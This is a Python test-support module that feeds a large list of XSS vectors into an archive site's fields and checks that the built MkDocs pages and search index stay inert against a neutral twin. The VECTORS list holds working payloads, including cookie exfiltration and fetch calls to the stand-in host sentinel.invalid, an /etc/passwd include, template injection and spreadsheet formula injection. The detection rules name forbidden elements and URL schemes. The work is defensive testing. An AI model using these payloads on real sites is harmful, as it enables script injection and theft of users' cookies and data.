"""The hostile fixture set (tests/fixtures/hostile-cases/): its XSS vectors, loading and applying
its cases to a copy of tests/fixtures/small, the exact diagnostics each case expects, the
combined hostile archive with its neutral twin, and the checks that built output is inert.

Used by test_hostile.py, test_hostile_browser.py and hostile_report.py; nothing here depends on
pytest. The case format is described in tests/fixtures/hostile-cases/README.md.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import unicodedata
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

import archive_support

TESTS = Path(__file__).resolve().parent
REPO = TESTS.parent
SMALL = TESTS / "fixtures" / "small"
CASES_DIR = TESTS / "fixtures" / "hostile-cases"
CARRIER_DIR = CASES_DIR / "_carrier"

SENTINEL_HOST = "sentinel.invalid"
MAX_SECONDS = 1.0   # per hostile fixture: load, validate and link (the acceptance goal)
MAX_MB = 200        # peak resident memory of a fresh process checking one hostile fixture

# `path:line:col: CODE ` (a warning adds `warning:` after the code).
DIAGNOSTIC_LINE = re.compile(r"^(?P<path>[^\n]+?):(?P<line>\d+):(?P<col>\d+): (?P<code>[A-Z]+\d{3}) ")
HINT_LINE = re.compile(r"^    hint: ")

# --- the XSS vectors ----------------------------------------------------------------------------
# Each is placed, verbatim, in every free-text field kind of the combined hostile archive (see
# FIELDS), and the browser test also uses them as search queries and ?q= / ?h= parameters.
# `sentinel.invalid` is the host a vector tries to load from; any request to it is a violation.

VECTORS: list[str] = [
    # tags and event handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://sentinel.invalid/x.js></SCRIPT>",
    "<script src=data:,alert(2)></script>",
    "<img src=x onerror=alert(3)>",
    "<img src=http://sentinel.invalid/pixel.png>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(4)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=5>",
    "<img srcset=\"http://sentinel.invalid/a.png 1x\">",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(9)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<iframe srcdoc=\"<script>parent.alert(10)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(11)\"></iframe>",
    "<iframe src=http://sentinel.invalid/frame></iframe>",
    "<object data=\"javascript:alert(12)\"></object>",
    "<embed src=\"javascript:alert(13)\">",
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    "<audio src=x onerror=alert(18)>",
    "<marquee onstart=alert(19)>m</marquee>",
    "<x onclick=alert(20)>click</x>",
    "<p onmouseover=\"alert(21)\">hover</p>",
    "<dialog open onclose=alert(22)>d</dialog>",
    "<frameset onload=alert(23)>",
    "<table background=\"javascript:alert(24)\">",
    "<isindex action=javascript:alert(25) type=image>",
    "<template><script>alert(26)</script></template>",
    "<img src=x onerror=confirm(27)>",
    "<img src=x onerror=prompt(28)>",
    "<img src=x onerror=print()>",
    "<img src=x onerror=fetch('http://sentinel.invalid/exfil')>",
    "<script>new Image().src='http://sentinel.invalid/c?'+document.cookie</script>",
    # mutation XSS and parser differentials
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(29)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(30)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(31)>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(32) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(33)>",
    "<!--<img src=\"--><img src=x onerror=alert(34)//\">",
    "<scr<script>ipt>alert(35)</scr</script>ipt>",
    "<<script>script>alert(36)<</script>/script>",
    "<![CDATA[<script>alert(37)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(38)</script>",
    "<select><noembed></select><script>alert(39)</script>",
    "<img src=x onerror=alert(40)//",
    # breaking out of an element or an attribute
    "</title><script>alert(41)</script>",
    "</textarea><script>alert(42)</script>",
    "</style><script>alert(43)</script>",
    "</script><script>alert(44)</script>",
    "\"><script>alert(45)</script>",
    "'><img src=x onerror=alert(46)>",
    "\" onmouseover=\"alert(47)",
    "' autofocus onfocus='alert(48)",
    "</p></div></details><img src=x onerror=alert(49)>",
    # dangerous elements without script
    "<base href=\"http://sentinel.invalid/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(50)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://sentinel.invalid/\">",
    "<form action=\"javascript:alert(51)\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(52)\">x</button>",
    "<link rel=stylesheet href=http://sentinel.invalid/x.css>",
    "<style>@import 'http://sentinel.invalid/x.css';</style>",
    "<a href=\"http://sentinel.invalid/\" ping=\"http://sentinel.invalid/ping\">x</a>",
    # URLs
    "<a href=\"javascript:alert(53)\">x</a>",
    "<a href=javascript&colon;alert(54)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(55)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg1Nik8L3NjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(57)\">x</a>",
    "javascript:alert(58)",
    "JaVaScRiPt:alert(59)",
    "data:text/html,<script>alert(60)</script>",
    # CSS
    "<div style=\"background:url(javascript:alert(61))\">x</div>",
    "<div style=\"width:expression(alert(62))\">x</div>",
    "<span style=\"background-image:url(http://sentinel.invalid/bg.png)\">x</span>",
    # entities and escapes that must stay text
    "&lt;img src=x onerror=alert(63)&gt;",
    "&amp;lt;script&amp;gt;alert(64)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(65)\\u003c/script\\u003e",
    "\\<script>alert(66)\\</script>",
    "\uff1cscript\uff1ealert(67)\uff1c/script\uff1e",
    "<\u017fcript>alert(68)</\u017fcript>",
    # Markdown
    "[x](javascript:alert(69))",
    "[x](javascript&colon;alert(70))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg3MSk8L3NjcmlwdD4=)",
    "![x](http://sentinel.invalid/md.png)",
    "![x](x \"onerror=alert(72)\")",
    "[x][r73]\n\n[r73]: javascript:alert(73)",
    "<http://sentinel.invalid/autolink>",
    "<javascript:alert(74)>",
    "{onclick=alert(75)}",
    "# Heading {onclick=alert(76)}",
    "*emphasis*{: onclick=alert(77)}",
    "[x](http://sentinel.invalid/){: onclick=\"alert(78)\"}",
    "<div markdown=\"1\">[x](javascript:alert(79))</div>",
    "<div markdown>**bold**<img src=x onerror=alert(80)></div>",
    "`<img src=x onerror=alert(81)>`",
    "```html\n<script>alert(82)</script>\n```",
    "!!! note \"<img src=x onerror=alert(83)>\"",
    "??? note \"<svg onload=alert(84)>\"",
    "| a | <img src=x onerror=alert(85)> |\n|---|---|",
    "<!-- --><script>alert(86)</script><!-- -->",
    # template and include injection
    "{{ config }}",
    "{{ config.extra }}{{ ''.__class__.__mro__ }}",
    "{% include \"x\" %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "${alert(87)}",
    "--8<-- \"/etc/passwd\"",
    ";--8<-- \"mkdocs.yml\"",
    "[TOC]",
    # spreadsheet formulas (data downloads)
    "=HYPERLINK(\"http://sentinel.invalid/?leak=\"&A1,\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

# Words that occur only in vectors, at the start of a search token (Material's index splits on
# spaces and hyphens only): typed into the site's search box, each must find payload pages.
SEARCH_WORDS = ["onerror", "javascript", "srcdoc", "onload", "onclick", "onfocus", "ontoggle", "onmouseover",
                "autofocus", "xlink", "formaction", "config", "include", "srcset"]
# Payloads typed whole into the search box: the query itself is shown back by the theme.
SEARCH_QUERIES = ["<img src=x onerror=alert(95)>", "\"><svg onload=alert(96)>", "</mark><script>alert(97)</script>"]

GROUP_SIZE = 28


def vector_groups(single: bool = False) -> list[list[str]]:
    """The vectors split into the groups that share one set of carrier files (the combined site),
    or all in one group (a single case, checked without MkDocs)."""
    if single:
        return [list(VECTORS)]
    return [VECTORS[i:i + GROUP_SIZE] for i in range(0, len(VECTORS), GROUP_SIZE)]


# Every free-text field kind, and the page (per group g) that must show its text.
FIELDS: dict[str, str] = {
    "article.body": "articles/xss-{g}/",
    "article.title": "articles/xss-{g}/",
    "article.label": "articles/xss-{g}-untitled/",
    "article.outlet_basis": "articles/xss-{g}/",
    "article.published_basis": "articles/xss-{g}/",
    "article.provenance_note": "articles/xss-{g}/",
    "article.segment_label": "articles/xss-{g}/",
    "actor.name": "actors/xss-actor-{g}/",
    "actor.alias": "actors/xss-actor-{g}/",
    "actor.description": "actors/xss-actor-{g}/",
    "actor.period_basis": "actors/xss-actor-{g}/",
    "claim.quote": "claims/xss-{g}-quote/",
    "claim.note": "claims/xss-{g}-quote/",
    "claim.event_basis": "claims/xss-{g}-quote/",
    "claim.date_outside": "claims/xss-{g}-quote/",
    "claim.outside_fact": "claims/xss-{g}-quote/",
    "claim.outside_source": "claims/xss-{g}-quote/",
    "figure.unit": "claims/xss-{g}-quote/",
    "dispute.question": "disputes/xss-{g}/",
    "dispute.position": "disputes/xss-{g}/",
    "dispute.history_note": "disputes/xss-{g}/",
    "event.title": "events/xss-{g}/",
    "event.description": "events/xss-{g}/",
    "event.basis": "events/xss-{g}/",
    "event.equipment": "events/xss-{g}/",
    # A place drawn on the maps keeps a neutral name: a label's place on a map depends on its
    # width, which would differ from the twin's. Vectors in a name go to a place with no
    # coordinates (the maps' own test, tests/test_mapsvg.py, draws hostile names).
    "place.name": "places/xss-unlocated-{g}/",
    "place.alias": "places/xss-place-{g}/",
    "place.description": "places/xss-place-{g}/",
    "place.basis": "places/xss-place-{g}/",
    "place.location_unknown": "places/xss-unlocated-{g}/",
}


def neutral(text: str) -> str:
    """The same shape of text with no markup: every non-space character becomes 'n'."""
    return re.sub(r"\S", "n", text)


def yaml_string(text: str) -> str:
    """A double-quoted YAML scalar holding exactly `text` (line breaks YAML would fold, and
    every control or format character, are written as escapes)."""
    out = json.dumps(text, ensure_ascii=False)
    return "".join(f"\\u{ord(ch):04x}" if unicodedata.category(ch)[0] in "CZ" and ch not in " " else ch
                   for ch in out)


def _alias(g: int, i: int, vector: str) -> str:
    return f"A{g}.{i} {vector}"


def _place_alias(g: int, i: int, vector: str) -> str:
    return f"P{g}.{i} {vector}"


def carrier_values(g: int, vectors: list[str], active: set[str], twin: bool) -> dict[str, str]:
    """The text for each placeholder of group g's carrier files."""
    shown = [neutral(v) for v in vectors] if twin else list(vectors)
    joined = " ".join(shown)
    values: dict[str, str] = {"G": str(g)}
    for name in FIELDS:
        on = name in active
        if name == "article.body":
            values[name] = "\n\n".join(shown) if on else "Neutral body text."
        elif name == "claim.quote":
            values["claim.quote.passage"] = (f"Quoted passage {g}: {joined if on else 'neutral words'} "
                                             f"End of passage {g}.")
            values[name] = yaml_string(values["claim.quote.passage"])
        elif name == "actor.alias":
            aliases = [_alias(g, i, v) for i, v in enumerate(shown)] if on else [f"Carrier alias {g}"]
            values[name] = "[" + ", ".join(yaml_string(a) for a in aliases) + "]"
            values["actor.alias.line"] = " | ".join(aliases)
        elif name == "place.alias":
            aliases = [_place_alias(g, i, v) for i, v in enumerate(shown)] if on else [f"Carrier place alias {g}"]
            values[name] = "[" + ", ".join(yaml_string(a) for a in aliases) + "]"
            values["place.alias.line"] = " | ".join(aliases)
        elif name == "place.name":
            values[name] = yaml_string(f"Carrier unlocated place {g}: {joined if on else 'neutral name'}")
        elif name == "actor.name":
            values[name] = yaml_string(f"Carrier actor {g}: {joined if on else 'neutral name'}")
        else:
            values[name] = yaml_string(f"{name} {g}: {joined}" if on else f"Neutral {name} {g}")
    return values


def expected_texts(field_name: str, single: bool = False) -> list[tuple[str, str]]:
    """(page, text) pairs: every vector of the field, on the page that shows it."""
    found = []
    for g, vectors in enumerate(vector_groups(single), 1):
        for i, vector in enumerate(vectors):
            text = (_alias(g, i, vector) if field_name == "actor.alias"
                    else _place_alias(g, i, vector) if field_name == "place.alias" else vector)
            found.append((FIELDS[field_name].format(g=g), text))
    return found


def build_carriers(root: Path, active: set[str], twin: bool = False, single: bool = False) -> None:
    """Write the carrier files of every vector group, with the vectors in the `active` fields."""
    templates = {rel: (CARRIER_DIR / rel).read_text(encoding="utf-8")
                 for rel in ("article.md", "untitled.md", "claims.yml", "untitled-claims.yml", "actor.yml",
                             "dispute.yml", "event.yml", "place.yml",
                             "unlocated-place.yml")}
    targets = {"article.md": "articles/xss-{g}.md", "untitled.md": "articles/xss-{g}-untitled.md",
               "claims.yml": "annotations/claims/xss-{g}.yml",
               "untitled-claims.yml": "annotations/claims/xss-{g}-untitled.yml",
               "actor.yml": "annotations/actors/xss-actor-{g}.yml", "dispute.yml": "annotations/disputes/xss-{g}.yml",
               "event.yml": "annotations/events/xss-{g}.yml",
               "place.yml": "annotations/places/xss-place-{g}.yml",
               "unlocated-place.yml": "annotations/places/xss-unlocated-{g}.yml"}
    for g, vectors in enumerate(vector_groups(single), 1):
        values = carrier_values(g, vectors, active, twin)
        for name, template in templates.items():
            text = re.sub(r"@@([a-z_.A-Z]+)@@", lambda m: values[m.group(1)], template)
            path = root / targets[name].format(g=g)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(text.encode("utf-8"))


# --- cases ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Expected:
    code: str
    path: str
    line: int
    col: int | None = None
    severity: str = "error"

    def key(self) -> tuple:
        return (self.code, self.path, self.line, self.severity)

    def __str__(self) -> str:
        col = self.col if self.col is not None else "*"
        return f"{self.path}:{self.line}:{col}: {self.code}" + (" (warning)" if self.severity == "warning" else "")


@dataclass
class Case:
    name: str
    file: Path
    title: str
    category: str
    kind: str                      # diagnostic | inert | atomicity | determinism
    edits: list = field(default_factory=list)
    expect: Any = None
    expect_each: dict | None = None
    vector_field: str | None = None
    visible: list = field(default_factory=list)
    resources: bool = False
    max_seconds: float = MAX_SECONDS
    requires: list = field(default_factory=list)
    forbid_output: list = field(default_factory=list)
    combined: bool = True
    cli: bool = True
    suite: bool = True
    raw: dict = field(default_factory=dict)

    @property
    def is_error_fixture(self) -> bool:
        return self.kind == "diagnostic" and bool(self.expect or self.expect_each)

    def __str__(self) -> str:
        return self.name


def load_cases() -> list[Case]:
    cases = []
    for path in sorted(CASES_DIR.glob("*.yml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        cases.append(Case(
            name=path.stem, file=path, title=data["title"], category=data["category"], kind=data["kind"],
            edits=data.get("edits") or [], expect=data.get("expect"), expect_each=data.get("expect_each"),
            vector_field=data.get("field"), visible=data.get("visible") or [],
            resources=bool(data.get("resources")), max_seconds=float(data.get("max_seconds", MAX_SECONDS)),
            requires=data.get("requires") or [], forbid_output=data.get("forbid_output") or [],
            combined=data.get("combined", True), cli=data.get("cli", True),
            suite=data.get("suite", True), raw=data))
        assert cases[-1].kind in ("diagnostic", "inert", "atomicity", "determinism"), path
        assert cases[-1].vector_field is None or cases[-1].vector_field in FIELDS, path
    return cases


def case_named(name: str) -> Case:
    return next(c for c in load_cases() if c.name == name)


# --- applying edits ------------------------------------------------------------------------------


def _target(root: Path, rel: str) -> Path:
    """A path of the archive, or (with a leading '../') next to it, never elsewhere."""
    path = Path(os.path.normpath(root / rel))
    assert path == root or root.parent in path.parents, f"edit outside the test folder: {rel}"
    return path


def _text(spec: dict) -> str:
    if "text" in spec:
        return spec["text"]
    out = []
    for part in spec["parts"]:
        if isinstance(part, str):
            out.append(part)
        else:
            out.extend(part["repeat"].replace("{i}", str(i)) for i in range(part.get("from", 0), part["times"]))
    return "".join(out)


def _newlines(text: str, style: str | None) -> str:
    return text.replace("\n", {"crlf": "\r\n", "cr": "\r", None: "\n"}[style])


def apply_edit(root: Path, edit: dict) -> None:
    [(op, spec)] = edit.items()
    path = _target(root, spec["file"])
    if op == "write":
        path.parent.mkdir(parents=True, exist_ok=True)
        data = _newlines(_text(spec), spec.get("newline")).encode("utf-8")
        path.write_bytes((b"\xef\xbb\xbf" if spec.get("bom") else b"") + data)
    elif op == "append":
        path.write_bytes(path.read_bytes() + _text(spec).encode("utf-8"))
    elif op == "replace":
        text = path.read_bytes().decode("utf-8")
        count = text.count(spec["old"])
        assert count == spec.get("count", 1), f"{spec['file']}: {spec['old']!r} occurs {count} times"
        path.write_bytes(text.replace(spec["old"], spec["new"]).encode("utf-8"))
    elif op == "newline":
        path.write_bytes(_newlines(path.read_bytes().decode("utf-8"), spec["style"]).encode("utf-8"))
    elif op == "insert_bytes":
        data = path.read_bytes()
        marker = spec["before"].encode("utf-8")
        assert data.count(marker) == 1, f"{spec['file']}: {spec['before']!r} is not unique"
        path.write_bytes(data.replace(marker, bytes.fromhex(spec["hex"]) + marker))
    elif op == "delete":
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
    elif op == "symlink":
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(spec["target"], path)
    elif op == "copy":
        path.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(_target(root, spec["from"]), path)
    else:
        raise ValueError(f"unknown edit {op!r}")


def copy_base(dest: Path, reverse: bool = False) -> Path:
    """A writable copy of tests/fixtures/small at `dest` (files created in sorted or reversed order)."""
    return archive_support.copy_in_order(dest, SMALL, reverse)


def apply_case(case: Case, root: Path, twin: bool = False, single: bool = True) -> None:
    """The case's edits; a vector case writes its carrier files, with all vectors in one group."""
    if case.vector_field:
        build_carriers(root, {case.vector_field}, twin, single)
    for edit in case.edits:
        apply_edit(root, edit)


def prepare(case: Case, dest: Path, twin: bool = False) -> Path:
    """`dest`/archive: the small fixture with the case's edits."""
    root = copy_base(dest / "archive")
    apply_case(case, root, twin, single=True)
    return root


def unmet_requirements(case: Case, scratch: Path) -> list[str]:
    missing = []
    if "case_sensitive_fs" in case.requires:
        scratch.mkdir(parents=True, exist_ok=True)
        (scratch / "probe").write_text("a")
        if (scratch / "PROBE").exists():
            missing.append("a case-sensitive file system")
        (scratch / "probe").unlink()
    if "symlinks" in case.requires and not hasattr(os, "symlink"):
        missing.append("symbolic links")
    return missing


# --- expectations --------------------------------------------------------------------------------


def _editor_lines(data: bytes) -> list[str]:
    """The file's lines as an editor numbers them: CRLF, CR and LF each end a line; a BOM is no column."""
    data = data.removeprefix(b"\xef\xbb\xbf").replace(b"\r\n", b"\n").replace(b"\r", b"\n")
    return data.decode("utf-8", "replace").split("\n")


def _line_of(lines: list[str], marker: str, where: str) -> int:
    found = [i for i, line in enumerate(lines, 1) if marker in line]
    assert len(found) == 1, f"{where}: marker {marker!r} is on lines {found}, expected exactly one"
    return found[0]


def _position(root: Path, rel: str, spec: dict, lines_cache: dict) -> tuple[int, int | None]:
    line_spec, col_spec = spec["line"], spec.get("col")
    if line_spec == "whole-file":
        return 1, (1 if col_spec == "whole-file" else None)
    source = line_spec.get("in", rel)
    if source not in lines_cache:
        lines_cache[source] = _editor_lines(_target(root, source).read_bytes())
    lines = lines_cache[source]
    line = _line_of(lines, line_spec["marker"], source)
    col = None
    if col_spec is not None:
        col = lines[line - 1].index(col_spec["marker"]) + 1
    return line, col


def expected_diagnostics(case: Case, root: Path) -> list[Expected]:
    """The exact diagnostics of the case, their lines found by marker in the files as edited."""
    cache: dict = {}
    specs = list(case.expect or []) if isinstance(case.expect, list) else []
    out = []
    for spec in specs:
        line, col = _position(root, spec["path"], spec, cache)
        out.append(Expected(spec["code"], spec["path"], line, col, spec.get("severity", "error")))
    each = case.expect_each
    if each:
        if each.get("ordered"):
            out += _ordered_each(root, each)
        else:
            for i in range(each["count"]):
                spec = json.loads(json.dumps(each).replace("{i}", str(i)))
                line, col = _position(root, spec["path"], spec, cache)
                out.append(Expected(spec["code"], spec["path"], line, col, spec.get("severity", "error")))
    return out


def _ordered_each(root: Path, each: dict) -> list[Expected]:
    """expect_each over a large file whose markers occur in order: one pass, not one per marker."""
    import bisect

    text = "\n".join(_editor_lines(_target(root, each["path"]).read_bytes()))
    breaks = [i for i, ch in enumerate(text) if ch == "\n"]
    out, at = [], 0
    for i in range(each["count"]):
        marker = each["line"]["marker"].replace("{i}", str(i))
        found = text.find(marker, at)
        assert found != -1, f"{each['path']}: marker {marker!r} not found after offset {at}"
        at = found + len(marker)
        line = bisect.bisect_right(breaks, found) + 1
        out.append(Expected(each["code"], each["path"], line, None, each.get("severity", "error")))
    return out


def actual(report) -> list[tuple]:
    return [(d.code, d.position.path, d.position.line, d.severity) for d in report.sorted()]


def compare(expected: list[Expected], report) -> list[str]:
    """Every difference between the expected and the reported diagnostics, as readable lines."""
    got = Counter(actual(report))
    want = Counter(e.key() for e in expected)
    problems = [f"missing: {e}" for e in expected if want[e.key()] > got[e.key()]]
    problems += [f"unexpected: {d.format().splitlines()[0]}" for d in report.sorted()
                 if got[(d.code, d.position.path, d.position.line, d.severity)] >
                 want[(d.code, d.position.path, d.position.line, d.severity)]]
    for e in expected:
        if e.col is not None and not any((d.code, d.position.path, d.position.line, d.position.col) ==
                                         (e.code, e.path, e.line, e.col) for d in report.sorted()):
            problems.append(f"wrong column: expected {e}")
    return sorted(set(problems))


def printed_path(path: str) -> str:
    """A path as `archive check` prints it: a character that is not printable (a line break, a
    control or format character), ':' and '\\' are written as escapes (\\n, \\x3a, \\u2028), so
    a file name can neither start a line nor hide the real `:line:col:` of its diagnostic."""
    def escape(ch: str) -> str:
        if ch in "\n\r\t":
            return {"\n": "\\n", "\r": "\\r", "\t": "\\t"}[ch]
        code = ord(ch)
        return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
    return "".join(ch if ch.isprintable() and ch not in ":\\" else escape(ch) for ch in path)


def cli_problems(expected: list[Expected], stdout: str, stderr: str, returncode: int) -> list[str]:
    """What is wrong with `archive check` output: every diagnostic on one line of its own,
    `path:line:col: CODE `, each followed by its hint line, and nothing else."""
    problems = []
    if "Traceback" in stdout + stderr:
        problems.append("a traceback was printed")
    errors = [e for e in expected if e.severity == "error"]
    if returncode != (1 if errors else 0):
        problems.append(f"exit code {returncode}")
    lines = stdout.split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    heads = [line for line in lines if not HINT_LINE.match(line)]
    for line in heads:
        if not DIAGNOSTIC_LINE.match(line):
            problems.append(f"a line that is neither a diagnostic nor a hint: {line!r}")
    by_place: dict[tuple, list[str]] = {}
    for head in heads:
        match = DIAGNOSTIC_LINE.match(head)
        if match:
            by_place.setdefault((match["path"], int(match["line"]), match["code"]), []).append(match["col"])
    for e in expected:
        cols = by_place.get((printed_path(e.path), e.line, e.code), [])
        col = next((c for c in cols if e.col is None or c == str(e.col)), None)
        if col is None:
            problems.append(f"no line `{e.path}:{e.line}:{e.col or 'COL'}: {e.code} `")
        else:
            cols.remove(col)
    if len(heads) != len(expected):
        problems.append(f"{len(heads)} diagnostic lines for {len(expected)} diagnostics")
    return problems


# --- the command line ---------------------------------------------------------------------------


def cli_check(root: Path, env: dict | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
    """`archive check` on one archive, in a process of its own."""
    environment = {**os.environ, **(env or {})}
    return subprocess.run([sys.executable, "-m", "build_scripts", "--root", str(root), "check", "--no-progress"],
                          cwd=REPO, capture_output=True, text=True, timeout=timeout, env=environment)


# Starting Python and importing the checker takes about a second, so most archives are checked
# by a few worker processes that each call the command line's entry point (`cli.main`, as
# `python -m build_scripts` does) once per archive, with its own standard output and error;
# an escaping exception is printed as the interpreter would print it.
BATCH_RUNNER = """
import contextlib, io, json, sys, traceback
from build_scripts import cli
results = []
for root in json.loads(sys.stdin.read()):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = cli.main(["--root", root, "check", "--no-progress"])
        except SystemExit as exit:
            code = exit.code if isinstance(exit.code, int) else 1
        except BaseException:
            traceback.print_exc()
            code = 1
    results.append([out.getvalue(), err.getvalue(), code])
print(json.dumps(results))
"""


def cli_check_many(roots: list[Path]) -> list[subprocess.CompletedProcess]:
    run = subprocess.run([sys.executable, "-c", BATCH_RUNNER], input=json.dumps([str(r) for r in roots]),
                         cwd=REPO, capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr
    return [subprocess.CompletedProcess(["archive", "check"], code, out, err)
            for out, err, code in json.loads(run.stdout)]


# --- the combined hostile archive ------------------------------------------------------------------


def inert_cases() -> list[Case]:
    return [c for c in load_cases() if c.kind == "inert" and c.combined]


def combined_archive(dest: Path, twin: bool = False, reverse: bool = False) -> Path:
    """The small fixture with every inert case applied: all vectors in all field kinds. The twin
    is the same archive with each vector replaced by neutral text of the same shape."""
    root = copy_base(dest, reverse=reverse)
    cases = inert_cases()
    build_carriers(root, {c.vector_field for c in cases if c.vector_field}, twin)
    for case in cases:
        for edit in case.edits:
            apply_edit(root, edit)
    return root


_built: dict[str, Path] = {}
_lock = threading.Lock()


def built_combined_sites(scratch: Path) -> tuple[Path, Path]:
    """The combined hostile archive and its twin, each built once per process with
    `mkdocs build --strict` (the two at the same time); returns the two site/ folders."""
    import concurrent.futures

    import sitebuild

    def build(name: str, twin: bool) -> Path:
        content = combined_archive(scratch / f"{name}-content", twin=twin)
        project = sitebuild.make_project(content, scratch / f"{name}-project")
        run = sitebuild.mkdocs_build(project)
        if run.returncode != 0:
            raise RuntimeError(f"mkdocs build --strict of the {name} archive failed:\n{run.stdout}\n"
                               f"{run.stderr[-6000:]}")
        return project / "site"

    with _lock:
        if "hostile" not in _built:
            with concurrent.futures.ThreadPoolExecutor(2) as pool:
                hostile, twin = pool.submit(build, "hostile", False), pool.submit(build, "twin", True)
                _built.update(hostile=hostile.result(), twin=twin.result())
        return _built["hostile"], _built["twin"]


# --- inert output ------------------------------------------------------------------------------------

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "background", "ping",
                  "xlink:href", "cite", "longdesc", "manifest", "codebase", "dynsrc", "lowsrc")
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "isindex",
                      "noembed", "math", "mglyph", "textarea", "marquee", "video", "audio", "source", "template",
                      "dialog", "img"}
_BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data|livescript):", re.I)


def _scheme(value: str) -> str:
    """A URL as a browser reads its scheme: control characters and whitespace removed."""
    return re.sub(r"[\x00-\x20\x7f]", "", value)


def _parser() -> str:
    try:
        import lxml  # noqa: F401 - faster, when installed
    except ImportError:
        return "html.parser"
    return "lxml"


def _soup(html: str):
    from bs4 import BeautifulSoup

    return BeautifulSoup(html, _parser())


def signatures(soup) -> Counter:
    return Counter((el.name, tuple(sorted(el.attrs))) for el in soup.find_all(True))


def url_values(soup) -> Counter:
    """Link targets, with a fragment that names a heading (whose id comes from its text) left out."""
    return Counter((el.name, name, str(el.get(name)).split("#")[0] + ("#" if "#" in str(el.get(name)) else ""))
                   for el in soup.find_all(True) for name in URL_ATTRIBUTES if el.get(name) is not None)


def inline_scripts(soup) -> list[str]:
    return [s.get_text() for s in soup.find_all("script") if not s.get("src")
            and s.get("type") not in ("application/json", "application/ld+json")]


def absolute_problems(soup, where: str) -> list[str]:
    """Markup no page of this site may carry, whatever the twin has."""
    problems = []
    for el in soup.find_all(True):
        handlers = [a for a in el.attrs if a.lower().startswith("on")]
        if handlers:
            problems.append(f"{where}: <{el.name}> has event handler {handlers}")
        for name in URL_ATTRIBUTES:
            value = el.get(name)
            if value is not None and _BAD_SCHEME.match(_scheme(str(value))):
                problems.append(f"{where}: <{el.name} {name}={str(value)[:80]!r}>")
        if el.get("srcdoc") is not None:
            problems.append(f"{where}: <{el.name}> has srcdoc")
        style = str(el.get("style", "")).lower().replace(" ", "")
        if "expression(" in style or "javascript:" in style or "url(http" in style:
            problems.append(f"{where}: <{el.name} style={style[:80]!r}>")
        if el.name in FORBIDDEN_ELEMENTS:
            problems.append(f"{where}: <{el.name}> element")
        if el.name == "meta" and str(el.get("http-equiv", "")).lower() == "refresh":
            problems.append(f"{where}: <meta http-equiv=refresh>")
        if el.name == "script":
            kind = el.get("type")
            if kind == "application/ld+json":
                text = el.get_text()
                try:
                    json.loads(text)
                except ValueError:
                    problems.append(f"{where}: JSON-LD is not valid JSON")
                if "<" in text:
                    problems.append(f"{where}: JSON-LD contains '<'")
            elif el.get("src") and ("//" in el["src"].split("?")[0][:8] or _BAD_SCHEME.match(_scheme(el["src"]))):
                problems.append(f"{where}: <script src={el['src']!r}>")
    return problems


def page_problems(hostile_html: str, twin_html: str, where: str) -> list[str]:
    """A hostile page against its twin: no element, attribute, link target or inline script
    that the twin (the same page with neutral text) does not have, and nothing forbidden."""
    hostile, twin = _soup(hostile_html), _soup(twin_html)
    problems = absolute_problems(hostile, where)
    gained = signatures(hostile) - signatures(twin)
    if gained:
        problems.append(f"{where}: elements gained from content: {sorted(gained)[:8]}")
    urls = url_values(hostile) - url_values(twin)
    if urls:
        problems.append(f"{where}: link targets gained from content: {sorted(urls)[:8]}")
    scripts = Counter(inline_scripts(hostile)) - Counter(inline_scripts(twin))
    if scripts:
        problems.append(f"{where}: inline scripts gained: {[s[:80] for s in scripts]}")
    return problems


def search_index_problems(hostile_index: dict, twin_index: dict) -> list[str]:
    """Material renders search results from the index as HTML: nothing in it may be markup that
    the twin's index does not have, or markup that runs."""
    problems = []
    docs, twins = hostile_index["docs"], twin_index["docs"]
    if len(docs) != len(twins):
        problems.append(f"search index: {len(docs)} documents, the twin has {len(twins)}")
    for i, (doc, other) in enumerate(zip(docs, twins)):
        for key in ("title", "text"):
            soup, twin = _soup(doc.get(key, "")), _soup(other.get(key, ""))
            where = f"search_index docs[{i}].{key} ({doc.get('location')})"
